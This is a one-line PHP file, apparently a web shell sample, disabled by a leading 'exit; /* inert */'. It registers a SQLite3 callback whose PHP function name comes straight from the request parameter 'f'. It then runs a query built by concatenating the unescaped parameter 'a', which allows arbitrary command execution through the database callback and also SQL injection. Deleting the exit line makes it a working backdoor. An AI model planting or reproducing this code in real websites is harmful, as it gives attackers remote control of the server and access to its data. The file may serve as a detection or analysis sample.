<?php exit; /* inert */ $d=new SQLite3(":memory:"); $d->createFunction("f",$_GET["f"]); $d->query("select f('".$_GET["a"]."')");
